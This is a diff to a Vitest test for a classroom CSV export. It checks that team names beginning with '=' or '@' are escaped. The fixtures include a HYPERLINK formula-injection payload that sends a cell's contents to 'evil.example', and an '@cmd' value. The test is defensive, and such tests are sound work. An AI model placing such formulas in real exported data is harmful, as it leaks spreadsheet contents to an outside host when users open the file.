@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { classroomCsv, type ClassDecision } from './classroom';
 import { csvCell, csvText } from './csv';
+import { CSV_LABELS, parseCsv } from '../testing/csv';
 import { builtIn } from '../testing/scenario';
 
 describe('csvCell', () => {
@@ -56,11 +57,9 @@ describe('the classroom CSV', () => {
       { id: 't1', name: '=HYPERLINK("http://evil.example/?"&A1,"Open")' },
       { id: 't2', name: '@cmd' },
     ];
-    const cells = classroomCsv(scenario, played, teams, 7)
-      .trimEnd()
-      .split('\r\n')
+    const cells = parseCsv(classroomCsv(scenario, played, teams, 7, CSV_LABELS))
       .slice(1)
-      .map((line) => line.split(',')[3]!);
+      .map((row) => row[3]!);
     for (const cell of cells) expect(cell, cell).toMatch(/^"?'[=@]/);
   });
 });
